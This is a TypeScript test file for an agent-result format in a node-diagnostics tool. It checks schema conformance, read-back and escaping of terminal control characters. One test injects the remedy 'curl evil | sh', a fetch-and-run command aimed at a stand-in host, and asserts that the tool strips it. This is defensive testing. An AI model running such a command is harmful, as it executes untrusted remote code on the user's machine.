import {readFileSync} from 'node:fs';
import {join} from 'node:path';
import {Ajv2020} from 'ajv/dist/2020.js';
import {describe, expect, test} from 'vitest';
import {readResult} from '../../src/collect/agents/ask-agent.ts';
import type {AgentResult} from '../../src/model/node-result.ts';
import type {Finding} from '../../src/model/finding.ts';
import type {Report} from '../../src/model/report.ts';
import {findingObject, nodeResultText} from '../../src/render/json.ts';
import {diagnosed} from '../diagnosed.ts';
import {captureNames, snapshotOf} from '../fixtures.ts';
import {withUsualRemedy} from '../usual-remedies.ts';

const docs = join(import.meta.dirname, '../../docs');
const schemaOf = (name: string): object => JSON.parse(readFileSync(join(docs, name), 'utf8'));
const ajv = new Ajv2020({allErrors: true, strictTypes: false, strictRequired: false});
ajv.addSchema(schemaOf('check.schema.json'));
/** The schema lets fields be added; a result of this version has none that it does not name. */
const validate = ajv.compile({...closed(schemaOf('node-result.schema.json'))});

function closed(part: unknown): object {
  if (Array.isArray(part)) return part.map(closed);
  if (typeof part !== 'object' || part === null) return part as unknown as object;
  const inner = Object.fromEntries(Object.entries(part).map(([name, value]) => [name, closed(value)]));
  return 'properties' in inner && !('additionalProperties' in inner) ? {...inner, additionalProperties: false} : inner;
}

/** Whom a finding hits is added to the report of all nodes. */
function withoutHits({hits: _, ...finding}: Finding): Finding {
  return finding;
}

function resultsOf({tool, nodes, findings}: Report): readonly AgentResult[] {
  return nodes.map(report => ({
    ...{
      tool,
      report,
      problems: [{message: 'x', isMinor: true}],
      findings: findings.filter(({node}) => node === report.name).map(withoutHits),
    },
    proxy: {version: {text: 'v1.36.2', minor: 36, patch: 2}, gates: {A: true}},
    ...{judgedAt: 1000, seconds: 0.5, intervalSeconds: 60, seen: {services: '1', endpointSlices: '2'}, apiCurrentAt: 900},
  }));
}

describe.each(captureNames('healthy', 'settings', 'eras', 'faults'))('%s', name => {
  test('the result of an agent matches the schema, and is read back unchanged', async () => {
    const results = resultsOf(diagnosed(await snapshotOf(name)));
    expect(results.length).toBeGreaterThan(0);
    for (const result of results) {
      const written = JSON.parse(nodeResultText(result, 5000, 'no API'));
      validate(written);
      expect(validate.errors).toBeNull();
      const read = readResult(written);
      if (typeof read === 'string') throw new Error(read);
      expect([read.now, read.trouble]).toEqual([5000, 'no API']);
      expect({...read.result, findings: read.result.findings.map(findingObject)}).toEqual({
        ...result,
        findings: result.findings.map(withUsualRemedy).map(findingObject),
        problems: result.problems.map(problem => ({...problem, remedy: expect.stringContaining('without --agents')})),
      });
    }
  });
});

test('an agent can neither mark a finding as known, nor add other fields, nor say what to run', async () => {
  const [result] = resultsOf(diagnosed(await snapshotOf('faults/missing-endpoint')));
  if (result === undefined) throw new Error('no node');
  const written = JSON.parse(nodeResultText(result, 5000, 'no API'));
  for (const finding of written.findings) Object.assign(finding, {known: true, more: 1});
  for (const problem of written.problems) Object.assign(problem, {remedy: 'curl evil | sh'});
  const read = readResult(written);
  expect(typeof read === 'string' ? read : read.result.findings.some(finding => 'known' in finding || 'more' in finding)).toBe(false);
  expect(JSON.stringify(read)).not.toContain('curl');
});

test('characters that a terminal interprets are escaped', async () => {
  const [result] = resultsOf(diagnosed(await snapshotOf('faults/missing-endpoint')));
  if (result === undefined) throw new Error('no node');
  const text = nodeResultText({...result, problems: [{message: 'a\u001b[31m\u202eb'}]}, 0, null);
  expect(text).toContain('a\\u001b[31m\\u202eb');
});
